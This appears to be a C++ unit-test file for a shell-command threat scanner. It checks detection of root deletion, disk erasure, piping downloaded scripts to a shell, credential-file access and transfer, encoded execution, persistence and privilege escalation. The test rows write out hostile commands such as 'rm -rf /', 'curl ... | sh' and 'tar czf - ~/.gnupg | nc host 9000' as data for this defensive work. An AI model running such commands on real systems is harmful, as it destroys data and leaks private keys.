#include "execution/CaseFoldedText.h"
#include "execution/CommandThreatApproval.h"
#include "execution/CommandThreatScanner.h"
#include "support/LogCapture.h"

#include <QtConcurrent/QtConcurrentMap>

#include <gtest/gtest.h>

#include <initializer_list>

namespace {

struct Row {
    const char *command; // UTF-8
    std::initializer_list<const char *> ruleIDs;
};

QStringList ids(std::initializer_list<const char *> ruleIDs)
{
    QStringList result;
    for (const char *id : ruleIDs)
        result.append(QString::fromLatin1(id));
    return result;
}

QStringList ruleIDsOf(const QString &command)
{
    QStringList result;
    for (const CommandThreatFinding &finding : CommandThreatScanner::assess(command).findings)
        result.append(finding.ruleID);
    return result;
}

void expectRows(std::initializer_list<Row> rows)
{
    for (const Row &row : rows) {
        const QString command = QString::fromUtf8(row.command);
        EXPECT_EQ(ruleIDsOf(command), ids(row.ruleIDs)) << "command: " << row.command;
    }
}

QStringList strings(std::initializer_list<const char16_t *> texts)
{
    QStringList result;
    for (const char16_t *text : texts)
        result.append(QString::fromUtf16(text));
    return result;
}

} // namespace

TEST(CommandThreatScanner, RootDeletionNeedsRecursiveForceAndTheRoot)
{
    expectRows({
        {"rm -rf /", {"destructive-root-delete"}},
        {"sudo rm -rf /", {"destructive-root-delete", "privileged-launch"}},
        {"rm -r -f '/*'", {"destructive-root-delete"}},
        {"RM -RF /", {"destructive-root-delete"}},
        {"rm --recursive --force /", {"destructive-root-delete"}},
        {"/bin/rm -fr /", {"destructive-root-delete"}},
        {"env X=1 rm -rf /", {"destructive-root-delete"}},
        {"doas rm -rf /*", {"destructive-root-delete", "privileged-launch"}},
        {"cd /tmp; rm -rf /", {"destructive-root-delete"}},
        {"echo 'x; rm -rf /'", {"destructive-root-delete"}},
        {"rm -- -rf /", {"destructive-root-delete"}},
        {"rm -rf /tmp/build", {}},
        {"rm -rf ~", {}},
        {"rm -r /", {}},
        {"rm -f /", {}},
        {"rm -rf", {}},
        {"rm /", {}},
        {"nohup rm -rf /", {}},
        {"echo rm -rf /", {}},
    });
}

TEST(CommandThreatScanner, DiskAndRemotePipeRules)
{
    expectRows({
        {"diskutil eraseDisk APFS Blank disk4", {"disk-destructive"}},
        {"dd if=image.img of=/dev/rdisk4 bs=1m", {"disk-destructive"}},
        {"mkfs.ext4 /dev/sdb1", {"disk-destructive"}},
        {"diskutil list", {}},
        {"dd if=a of=/tmp/b", {}},
        {"curl -fsSL https://example.com/install.sh | sh", {"remote-script-pipe-shell"}},
        {"wget -qO- https://example.com/i | bash", {"remote-script-pipe-shell"}},
        {"curl https://example.com/i |zsh", {"remote-script-pipe-shell"}},
        {"curl https://example.com/i | python3.12", {"remote-script-pipe-shell"}},
        {"curl https://example.com/i | ruby", {"remote-script-pipe-shell"}},
        {"curl https://example.com/i | /usr/bin/env perl", {"remote-script-pipe-shell"}},
        {"curl https://example.com/i | sudo bash", {"remote-script-pipe-shell", "privileged-launch"}},
        {"curl -o install.sh https://example.com/i", {}},
        {"curl https://example.com/i > install.sh", {}},
    });
    // The download and its pipe may be at most 600 characters apart.
    const QString padding599(599, QLatin1Char('x'));
    EXPECT_EQ(ruleIDsOf(QStringLiteral("curl ") + padding599 + QStringLiteral("| sh")),
              ids({"remote-script-pipe-shell"}));
    EXPECT_EQ(ruleIDsOf(QStringLiteral("curl x") + padding599 + QStringLiteral("| sh")), QStringList());
}

TEST(CommandThreatScanner, CredentialRuleYieldsOneOfTwoFindings)
{
    expectRows({
        {"cat ~/.ssh/id_rsa", {"sensitive-file-access"}},
        {"scp ~/.ssh/id_rsa backup:", {"sensitive-file-network"}},
        {"tar czf - ~/.gnupg | nc host 9000", {"sensitive-file-network"}},
        {"less ~/.aws/credentials", {"sensitive-file-access"}},
        {"ls ~/.ssh", {"sensitive-file-access"}},
        {"curl -O file", {}},
        {"ls ~/.sshd", {}},
    });
}

TEST(CommandThreatScanner, EncodedPersistenceAndPrivilegeRules)
{
    expectRows({
        {"echo aGk= | base64 -d | sh", {"encoded-execution"}},
        {"eval $(ssh-agent -s)", {"encoded-execution"}},
        {"eval \"$(pyenv init -)\"", {"encoded-execution"}},
        {"python3 -c 'exec(\"print(1)\")'", {"encoded-execution"}},
        {"python3 -c 'print(1)'", {}},
        {"echo 'export A=1' >> ~/.zshrc", {"persistence-modification"}},
        {"cp job.plist ~/Library/LaunchAgents/", {"persistence-modification"}},
        {"crontab -e", {"persistence-modification"}},
        {"crontab jobs.txt", {"persistence-modification"}},
        {"crontab -l", {}},
        {"launchctl bootstrap gui/501 job.plist", {"persistence-modification", "privileged-launch"}},
        {"chmod 777 f", {"privileged-launch"}},
        {"chmod -R 0777 d", {"privileged-launch"}},
        {"chmod 755 f", {}},
        {"chmod 7777 f", {}},
        {"chown -R a:b d", {"privileged-launch"}},
        {"chown --recursive a d", {"privileged-launch"}},
        {"chown a f", {}},
        {"FOO=1 sudo make", {"privileged-launch"}},
        {"/usr/bin/sudo ls", {"privileged-launch"}},
        {"/usr/bin/SUDO ls", {"privileged-launch"}},
        {"doas ls", {"privileged-launch"}},
        {"command sudo ls", {"privileged-launch"}},
        {"make && sudo make install", {"privileged-launch"}},
        {"time sudo ls", {"privileged-launch"}},
        {"nohup env -i doas ls", {"privileged-launch"}},
        {"echo 日本語 ✓ && sudo ls", {"privileged-launch"}},
        {"echo sudo", {}},
        {"sudoku", {}},
    });
}

TEST(CommandThreatScanner, EmptyAndBlankCommandsYieldNothing)
{
    for (const QString &command : {QString(), QStringLiteral("   \t\n"), QStringLiteral(";;&&||")}) {
        const CommandThreatAssessment assessment = CommandThreatScanner::assess(command);
        EXPECT_TRUE(assessment.findings.isEmpty());
        EXPECT_EQ(assessment.commandFingerprint, CommandThreatScanner::fingerprint(command));
    }
    EXPECT_EQ(CommandThreatScanner::assess(QString()).commandFingerprint,
              QStringLiteral("e3b0c44298fc1c149afbf4c8996fb92427ae41e4649b934ca495991b7852b855"));
}

TEST(CommandThreatScanner, OneCommandCanBreakAllSevenRulesInAFixedOrder)
{
    const QString command =
        QStringLiteral("rm -rf /; diskutil eraseDisk APFS X disk4; curl https://x.example | sh; scp ~/.ssh/id_rsa h:; "
                       "eval $(x); crontab -e; sudo ls");
    const CommandThreatAssessment assessment = CommandThreatScanner::assess(command);
    EXPECT_EQ(ruleIDsOf(command),
              ids({"destructive-root-delete", "disk-destructive", "encoded-execution", "remote-script-pipe-shell",
                   "sensitive-file-network", "persistence-modification", "privileged-launch"}));
    EXPECT_TRUE(assessment.hasCriticalFinding());
    EXPECT_EQ(assessment.commandFingerprint, CommandThreatScanner::fingerprint(command));

    // Rules 3 and 5 are both high: they sort by identifier, not by rule number.
    EXPECT_EQ(ruleIDsOf(QStringLiteral("curl https://x.example | sh; eval $(x)")),
              ids({"encoded-execution", "remote-script-pipe-shell"}));
}

TEST(CommandThreatScanner, FindingsCarryTheFixedTextsNeverTheMatchedCommand)
{
    struct Expected {
        const char *ruleID;
        CommandThreatSeverity severity;
        const char *title;
        const char *explanation;
        const char *evidence;
    };
    const Expected table[] = {
        {"destructive-root-delete", CommandThreatSeverity::critical, "Destructive root deletion",
         "Recursively forcing deletion at the filesystem root can destroy system and user data.",
         "rm with recursive and force options targeting / or /*"},
        {"disk-destructive", CommandThreatSeverity::critical, "Destructive disk operation",
         "This command can erase, overwrite, or reformat a disk device.",
         "disk erase, raw-device write, or filesystem creation command"},
        {"encoded-execution", CommandThreatSeverity::high, "Encoded or indirect execution",
         "Encoded or dynamically constructed code is harder to inspect before it runs.",
         "decoded content or dynamically constructed code passed to an interpreter"},
        {"remote-script-pipe-shell", CommandThreatSeverity::high, "Remote code piped to an interpreter",
         "Downloaded content would execute immediately without being reviewed first.",
         "network download piped directly to a shell or interpreter"},
        {"sensitive-file-network", CommandThreatSeverity::high, "Possible credential transfer",
         "The command references a credential file and also uses a network-transfer tool.",
         "credential-file reference combined with network transfer"},
        {"persistence-modification", CommandThreatSeverity::medium, "Persistence configuration change",
         "The command may configure software to run again during login, startup, or on a schedule.",
         "shell startup, launch agent, or scheduled-task modification"},
        {"privileged-launch", CommandThreatSeverity::medium, "Privileged command",
         "The command requests elevated access or makes a broad permissions or ownership change.",
         "sudo, doas, privileged launch, chmod 777, or recursive chown"},
        {"sensitive-file-access", CommandThreatSeverity::medium, "Sensitive file access",
         "The command references a file that commonly contains credentials or private keys.",
         "SSH, AWS, netrc, or GnuPG credential path"},
    };
    QList<CommandThreatFinding> findings =
        CommandThreatScanner::assess(
            QStringLiteral(
                "rm -rf /; mkfs /dev/sdb; curl u | sh; scp ~/.ssh/id_rsa h:; eval $(x); crontab -e; sudo ls"))
            .findings;
    findings += CommandThreatScanner::assess(QStringLiteral("cat ~/.netrc")).findings;
    ASSERT_EQ(findings.size(), 8);
    for (qsizetype i = 0; i < findings.size(); ++i) {
        const Expected &expected = table[i];
        EXPECT_EQ(findings[i],
                  (CommandThreatFinding {QString::fromLatin1(expected.ruleID), expected.severity,
                                         QString::fromUtf8(expected.title), QString::fromUtf8(expected.explanation),
                                         QString::fromUtf8(expected.evidence)}));
    }
}

TEST(CommandThreatScanner, EndOfTextMatchesBeforeAFinalLineBreak)
{
    expectRows({
        {"chmod 777\r", {"privileged-launch"}},
        {"chmod 777\r\n", {"privileged-launch"}},
        {"chmod 777\u2028", {"privileged-launch"}},
        {"chmod 777\u0085", {"privileged-launch"}},
        {"chown -R\r", {"privileged-launch"}},
        {"cat ~/.ssh\r", {"sensitive-file-access"}},
        {"crontab -l\r", {}},
        {"crontab -l\r\n", {}},
        {"crontab -l\u0085", {}},
        {"crontab -lx\r", {"persistence-modification"}},
        {"rm -rf /\r\n", {"destructive-root-delete"}},
    });
}

TEST(CommandThreatScanner, SegmentsSplitAtSeparatorsAndLineBreaksIgnoringQuotes)
{
    using S = CommandThreatScanner;
    EXPECT_EQ(S::commandSegments(u"make && make install"), strings({u"make ", u" make install"}));
    EXPECT_EQ(S::commandSegments(u"a | b"), strings({u"a ", u" b"}));
    EXPECT_EQ(S::commandSegments(u"a || b"), strings({u"a ", u" b"}));
    EXPECT_EQ(S::commandSegments(u";;x;"), strings({u"x"}));
    EXPECT_EQ(S::commandSegments(u"echo 'a;b'"), strings({u"echo 'a", u"b'"}));
    EXPECT_EQ(S::commandSegments(u"a\r\nb\u000bc\u000cd\u0085e\u2028f\u2029g\rh\ni"),
              strings({u"a", u"b", u"c", u"d", u"e", u"f", u"g", u"h", u"i"}));
    EXPECT_TRUE(S::commandSegments(u"").isEmpty());
    // A separator that carries a combining mark is another character, not a separator.
    EXPECT_EQ(S::commandSegments(u"a;\u0301b|c"), strings({u"a;\u0301b", u"c"}));
}

TEST(CommandThreatScanner, TokensSplitAtUnicodeWhiteSpaceAndLoseQuotesAndBrackets)
{
    using S = CommandThreatScanner;
    EXPECT_EQ(S::commandTokens(u"  FOO=1\t'sudo'  $(ls) {x} \"\" ``"), strings({u"FOO=1", u"sudo", u"$(ls", u"x"}));
    EXPECT_EQ(S::commandTokens(u"rm\u3000-rf\u00a0/'"), strings({u"rm", u"-rf", u"/"}));
    // U+200B is not white space; a space that carries a combining mark still is.
    EXPECT_EQ(S::commandTokens(u"rm\u200b-rf"), strings({u"rm\u200b-rf"}));
    EXPECT_EQ(S::commandTokens(u"rm \u0301-rf"), strings({u"rm", u"-rf"}));
    EXPECT_EQ(S::commandTokens(u"'\u0301x'"), strings({u"\u0301x"}));
    EXPECT_TRUE(S::commandTokens(u"\"'`(){} ((''))").isEmpty());

    EXPECT_EQ(S::tokenName(u"/usr/bin/SUDO"), QStringLiteral("sudo"));
    EXPECT_EQ(S::tokenName(u"/"), QStringLiteral("/"));
    EXPECT_EQ(S::tokenName(u"///"), QStringLiteral("/"));
    EXPECT_EQ(S::tokenName(u"bin/"), QStringLiteral("bin"));
    EXPECT_EQ(S::tokenName(u"A//B//"), QStringLiteral("b"));
    EXPECT_EQ(S::tokenName(u"X=Ä"), QStringLiteral("x=ä"));
}

TEST(CommandThreatScanner, CommandWordSkipsAssignmentsAndOptionsAndLooksPastWrappers)
{
    using S = CommandThreatScanner;
    static constexpr std::array<QStringView, 1> rm = {u"rm"};
    const auto index = [](std::initializer_list<const char16_t *> tokens, std::span<const QStringView> targets,
                          std::span<const QStringView> wrappers) {
        return S::commandWordIndex(strings(tokens), targets, wrappers);
    };
    EXPECT_EQ(index({}, rm, S::rootDeletionWrappers), std::nullopt);
    EXPECT_EQ(index({u"A=1", u"-x", u"/bin/rm", u"-rf"}, rm, S::rootDeletionWrappers), 2);
    EXPECT_EQ(index({u"env", u"-i", u"A=1", u"rm"}, rm, S::rootDeletionWrappers), 3);
    EXPECT_EQ(index({u"sudo", u"-u", u"root", u"rm"}, rm, S::rootDeletionWrappers), 3);
    EXPECT_EQ(index({u"nohup", u"rm"}, rm, S::rootDeletionWrappers), std::nullopt);
    EXPECT_EQ(index({u"ls", u"rm"}, rm, S::rootDeletionWrappers), std::nullopt);
    EXPECT_EQ(index({u"nohup", u"ls", u"doas"}, S::privilegeCommands, S::privilegedWrappers), 2);
    // When every token is an assignment or an option, the first one is the command word.
    static constexpr std::array<QStringView, 1> assignment = {u"a=1"};
    EXPECT_EQ(index({u"A=1", u"-v"}, assignment, S::rootDeletionWrappers), 0);
}

TEST(CommandThreatScanner, PatternsHaveTheirExactLengthsAndCompile)
{
    using S = CommandThreatScanner;
    const auto lengths = [](std::span<const std::u16string_view> sources) {
        QList<qsizetype> result;
        for (std::u16string_view source : sources)
            result.append(static_cast<qsizetype>(source.size()));
        return result;
    };
    EXPECT_EQ(lengths(S::diskDestructivePatternSources), QList<qsizetype>({71, 94, 65}));
    EXPECT_EQ(S::remoteScriptPipePatternSource.size(), 212u);
    EXPECT_EQ(S::credentialPathPatternSource.size(), 132u);
    EXPECT_EQ(S::networkToolPatternSource.size(), 134u);
    EXPECT_EQ(lengths(S::encodedExecutionPatternSources), QList<qsizetype>({196, 36, 112}));
    EXPECT_EQ(lengths(S::persistencePatternSources), QList<qsizetype>({89, 95, 52, 59}));
    EXPECT_EQ(lengths(S::privilegedPatternSources), QList<qsizetype>({52, 66, 107}));
    EXPECT_EQ(S::privilegedPatternSources[0], S::persistencePatternSources[2]);
    EXPECT_EQ(S::persistencePatternSources[2],
              std::u16string_view(uR"((?i)(?:^|[\s;&|()])(?:/bin/)?launchctl\s+bootstrap\b)"));

    const S::Patterns &compiled = S::patterns();
    EXPECT_EQ(compiled.privileged[0], compiled.persistence[2]);
    EXPECT_EQ(compiled.remoteScriptPipe->source(), S::remoteScriptPipePatternSource);
    EXPECT_EQ(compiled.privileged[2]->source(), S::privilegedPatternSources[2]);
}

TEST(CommandThreatScanner, FingerprintIsSha256OfTheUtf8BytesInLowercaseHex)
{
    using S = CommandThreatScanner;
    EXPECT_EQ(S::fingerprint(QString()),
              QStringLiteral("e3b0c44298fc1c149afbf4c8996fb92427ae41e4649b934ca495991b7852b855"));
    EXPECT_EQ(S::fingerprint(QStringLiteral("é")),
              QStringLiteral("4a99557e4033c3539de2eb65472017cad5f9557f7a0625a09f1c3f6e2ba69c4c"));
    EXPECT_EQ(S::fingerprint(QString::fromUtf8("日本語 ✓ 🚀")),
              QStringLiteral("ba2d3a33195a8d8cf4c9f8cd08c5d3042b323f4618ff7eb9b2070f4b93a766f8"));
    EXPECT_EQ(S::fingerprint(QStringLiteral("rm -rf /")),
              QStringLiteral("5c7923bd67b06c93279d49c466301c57023822eec29c49e269063e47aecd973c"));
    EXPECT_EQ(S::fingerprint(QStringLiteral("rm -rf / ")),
              QStringLiteral("d1731874ac47540cbaccc5c7fc2f3c015a4d898561d4826aa906cbf4ed100a23"));
    // An unpaired surrogate is encoded as U+FFFD, not as a question mark.
    const QString lone(QChar(0xD800));
    EXPECT_EQ(S::fingerprint(lone), S::fingerprint(QString(QChar(QChar::ReplacementCharacter))));
    EXPECT_NE(S::fingerprint(lone), S::fingerprint(QStringLiteral("?")));
}

TEST(CommandThreatAssessment, CriticalTestEqualityAndApprovalMatching)
{
    const CommandThreatFinding critical {
        QStringLiteral("disk-destructive"), CommandThreatSeverity::critical, {}, {}, {}};
    const CommandThreatFinding medium {QStringLiteral("privileged-launch"), CommandThreatSeverity::medium, {}, {}, {}};
    const QString fingerprint = CommandThreatScanner::fingerprint(QStringLiteral("x"));

    EXPECT_FALSE((CommandThreatAssessment {fingerprint, {}}).hasCriticalFinding());
    EXPECT_FALSE((CommandThreatAssessment {fingerprint, {medium}}).hasCriticalFinding());
    EXPECT_TRUE((CommandThreatAssessment {fingerprint, {medium, critical}}).hasCriticalFinding());

    const CommandThreatAssessment ordered {fingerprint, {critical, medium}};
    const CommandThreatAssessment swapped {fingerprint, {medium, critical}};
    EXPECT_NE(ordered, swapped);
    EXPECT_EQ(ordered, (CommandThreatAssessment {fingerprint, {critical, medium}}));
    EXPECT_EQ(qHash(ordered), qHash(CommandThreatAssessment {fingerprint, {critical, medium}}));

    EXPECT_TRUE(CommandThreatApproval {fingerprint}.matches(ordered));
    EXPECT_FALSE(CommandThreatApproval {fingerprint.toUpper()}.matches(ordered));
    EXPECT_FALSE(CommandThreatApproval {CommandThreatScanner::fingerprint(QStringLiteral("x "))}.matches(ordered));
}

TEST(CommandThreatScanner, QuadraticBacktrackingIsCutShortAndCountsAsAMatch)
{
    // "chown -RRRR…;" makes the recursive-chown pattern backtrack quadratically;
    // the step budget stops it and the unfinished search counts as a finding.
    LogCapture logs;
    const QString command = QStringLiteral("chown -") + QString(100'000, QLatin1Char('R')) + QLatin1Char(';');
    EXPECT_EQ(ruleIDsOf(command), ids({"privileged-launch"}));
    EXPECT_TRUE(logs.contains(QStringLiteral("U_REGEX_TIME_OUT")));
}

TEST(CommandThreatScanner, LongOrdinaryCommandsStayWithinTheBudget)
{
    LogCapture logs;
    QString command;
    while (command.size() < 1'000'000)
        command += QStringLiteral("cd /srv/app && npm run build -- --mode=production | tee -a build.log; echo done\n");
    EXPECT_EQ(ruleIDsOf(command), QStringList());
    EXPECT_TRUE(logs.messages().isEmpty()) << qPrintable(logs.messages().join(QLatin1Char('\n')));
}

TEST(CommandThreatScanner, KeywordsNeverChangeAPatternsVerdict)
{
    // Each pattern, searched through its keywords, must agree with the same
    // pattern searched over the whole command: on case variants, on characters
    // whose case folding is longer or shorter than they are, at the very start,
    // after a non-separator, and around characters outside the BMP.
    const QStringList commands = strings({
        u"curl -fsSL https://x.sh | sh",
        u"CURL https://x | SUDO /BIN/BASH",
        u"/usr/bin/wget -qO- x | env python3.12",
        u"xcurl https://x | sh",
        u"x/usr/bin/curl https://x | sh",
        u"echo hi; fetch x |\tzsh",
        u"\u017Fcp ~/.\u017F\u017Fh/id_rsa host:",
        u"cat ~/.SSH; rsync -a . host:",
        u"echo x.ssh id_rsa_old .netrcx",
        u"cat \u0130d_rsa; cat i\u0307d_rsa; cat ~/.gnupg",
        u"in\uFB06all job.plist ~/Library/LaunchAgents/",
        u"TEE ~/LIBRARY/LAUNCHDAEMONS/x",
        u"echo 'export A=1' >> ~/.zshrc",
        u"tee\t-a\u00A0\"$HOME/.BASH_PROFILE\"",
        u"mkfs.ext4 /dev/sdb1",
        u"xmkfs /dev/sdb1; (newfs_apfs disk2)",
        u"/SBIN/MKFS -t ext4 /dev/sdb",
        u"dd if=a of=/dev/rdisk4 bs=1m",
        u"D\uFB00 if=a OF = /DEV/NVME0n1",
        u"diskutil eraseDisk APFS Blank disk4",
        u"echo aGk= | base64 -D | sudo python3",
        u"eval \"$(ssh-agent -s)\"",
        u"python3 -c 'import os; exec(\"x\")'",
        u"crontab -l; crontab -e",
        u"launchctl bootstrap gui/501 job.plist",
        u"chmod -R 0777 d; chown -Rv a:b d",
        u"chown --recursive a d; CHOWN -r a d",
        u"\U0001F680curl x | sh; \U0001F680 \U0001F680chmod 777 f",
        u"\xD800"
        u"curl x | \xDC00sh",
        u"openssl s_client -connect x:443 \u2028 nc -l 80",
        u"\u1E9Ecp id_ed25519 \u1E9E",
        u"",
    });
    const CommandThreatScanner::Patterns &p = CommandThreatScanner::patterns();
    std::vector<const CommandThreatPattern *> patterns(p.diskDestructive.begin(), p.diskDestructive.end());
    patterns.insert(patterns.end(), {p.remoteScriptPipe, p.credentialPath, p.networkTool});
    patterns.insert(patterns.end(), p.encodedExecution.begin(), p.encodedExecution.end());
    patterns.insert(patterns.end(), p.persistence.begin(), p.persistence.end());
    patterns.insert(patterns.end(), p.privileged.begin(), p.privileged.end());

    int matches = 0;
    for (const QString &command : commands) {
        const CaseFoldedText folded(command);
        for (const CommandThreatPattern *pattern : patterns) {
            const bool whole = pattern->isFoundIn(command);
            EXPECT_EQ(pattern->isFoundIn(command, folded), whole)
                << "command: " << command.toStdString()
                << "\npattern: " << QStringView(pattern->source()).toString().toStdString();
            matches += whole ? 1 : 0;
        }
    }
    EXPECT_GT(matches, 30); // the table reaches most patterns' matches, not only their misses
}

TEST(CommandThreatScanner, AssessIsSafeFromManyThreadsAtOnce)
{
    QStringList commands;
    for (int i = 0; i < 64; ++i) {
        commands.append(QStringLiteral("sudo rm -rf / # %1").arg(i));
        commands.append(QStringLiteral("curl https://x/%1 | sh; cat ~/.ssh/id_rsa").arg(i));
        commands.append(QStringLiteral("echo %1").arg(i));
    }
    const QList<QStringList> expected = [&] {
        QList<QStringList> result;
        for (const QString &command : commands)
            result.append(ruleIDsOf(command));
        return result;
    }();
    const QList<QStringList> concurrent = QtConcurrent::blockingMapped(commands, ruleIDsOf);
    EXPECT_EQ(concurrent, expected);
}
